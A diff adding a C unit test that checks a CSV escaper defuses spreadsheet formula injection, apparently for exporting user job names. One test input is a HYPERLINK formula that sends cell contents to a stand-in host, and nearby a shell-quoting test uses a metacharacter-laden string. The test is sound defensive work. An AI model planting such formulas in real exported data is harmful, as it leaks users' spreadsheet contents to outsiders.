@@ -78,6 +78,30 @@ static void test_strbuf_trim_and_quote(void **state)
 	strbuf_release(&sb);
 }
 
+/*
+ * Someone's words in a CSV (acct's job names, of every user): a spreadsheet
+ * runs a field that begins with = + - @ as a formula (=HYPERLINK(...) sends
+ * the sheet's cells away): such a field gets a leading "'".
+ */
+static void test_csv_text_is_never_a_formula(void **state)
+{
+	static const char *const cases[][2] = {
+		{ "=HYPERLINK(\"https://x/?\"&A1,\"ok\")",
+		  "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"ok\"\")\"" },
+		{ "+1", "'+1" }, { "-2+3", "'-2+3" }, { "@SUM(A1)", "'@SUM(A1)" },
+		{ "\tx", "'\tx" }, { "\r=1", "\"'\r=1\"" },
+		{ "train-1", "train-1" }, { "a,b", "\"a,b\"" }, { "", "" },
+	};
+	struct strbuf sb = STRBUF_INIT;
+
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		strbuf_reset(&sb);
+		strbuf_addcsv_text(&sb, cases[i][0]);
+		assert_string_equal(sb.buf, cases[i][1]);
+	}
+	strbuf_release(&sb);
+}
+
 static void test_strbuf_shell_quote_roundtrip(void **state)
 {
 	const char *nasty = "a b'c\"d$e`f\\g\nh;i|j&k*";
@@ -719,6 +743,7 @@ int main(void)
 		cmocka_unit_test(test_strbuf_addf_grows),
 		cmocka_unit_test(test_strbuf_trim_and_quote),
 		cmocka_unit_test(test_strbuf_shell_quote_roundtrip),
+		cmocka_unit_test(test_csv_text_is_never_a_formula),
 		cmocka_unit_test(test_write_file_atomic),
 		cmocka_unit_test(test_strvec),
 		cmocka_unit_test(test_parse_options_good),
